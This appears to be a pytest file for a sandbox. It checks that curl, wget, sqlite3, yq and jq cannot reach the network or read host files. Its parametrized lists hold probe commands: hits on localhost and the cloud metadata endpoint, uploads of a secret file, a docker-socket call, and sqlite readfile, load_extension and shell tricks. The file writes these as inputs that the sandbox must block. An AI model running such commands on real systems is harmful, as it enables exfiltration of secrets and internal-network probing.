"""TM-NET and C code: without a Network no socket is made and no name resolved; SQLite reaches no file of the host."""

from __future__ import annotations

import pytest

from tests.sandbox.conftest import Attack
from tests.sandbox.host import CANARY

OFF = [
    "curl -sS http://127.0.0.1:22/",
    "curl -sS http://localhost/",
    "curl -sS https://example.com/",
    "curl -sS http://169.254.169.254/latest/meta-data/",
    "curl -sS 'http://[::1]/'",
    "curl -sS -L -F f=x -o out http://example.com/",
    "wget -q -O - http://127.0.0.1/",
    "wget -q --spider http://example.com/",
    "http_proxy=http://127.0.0.1:3128 curl -sS http://example.com/",
    "https_proxy=http://127.0.0.1:3128 wget -q -O - https://example.com/",
]

ELSEWHERE = [
    "curl -sS file://@SECRET@",
    "curl -sS gopher://127.0.0.1:70/",
    "curl -sS --unix-socket /var/run/docker.sock http://x/",
    "curl -sS -K @SECRET@ http://x/",
    "curl -sS -x http://127.0.0.1:3128 http://x/",
    "curl -sS --resolve x:80:127.0.0.1 http://x/",
    "curl -sS -d @@SECRET@ http://x/",
    "curl -sS -T @SECRET@ http://x/",
    "curl -sS -b @SECRET@ http://x/",
    "wget -q --post-file=@SECRET@ http://x/",
    "sqlite3 @SECRET@ .dump",
    "sqlite3 :memory: \"attach '@SECRET@' as s\"",
    "sqlite3 :memory: '.import @SECRET@ t' 'select * from t'",
    "sqlite3 :memory: '.read @SECRET@'",
    "sqlite3 :memory: \"select readfile('@SECRET@')\"",
    "sqlite3 :memory: \"select load_extension('@SECRET@')\"",
    "sqlite3 :memory: \"vacuum into '@DIR@/copy.db'\"",
    "sqlite3 :memory: \"pragma temp_store_directory='@DIR@'\"",
    "sqlite3 :memory: '.shell cat @SECRET@'",
    "yq . @SECRET@",
    "tomlq . @SECRET@",
    "csv look @SECRET@",
    "yq -n 'env(SANDHOOK_CANARY)'",
    "yq -n '$ENV.SANDHOOK_CANARY'",
    "jq -n '$ENV.SANDHOOK_CANARY, (env|tojson), input_filename, input_line_number, (debug|stderr)'",
]


@pytest.mark.parametrize("script", OFF)
def test_no_socket_is_made_and_no_name_is_resolved(attack: Attack, script: str) -> None:
    result = attack(script)
    assert result.exit_status in (4, 6)


@pytest.mark.parametrize("script", ELSEWHERE)
def test_nothing_of_the_host_is_read(attack: Attack, script: str) -> None:
    result = attack(script)
    assert CANARY not in result.stdout + result.stderr
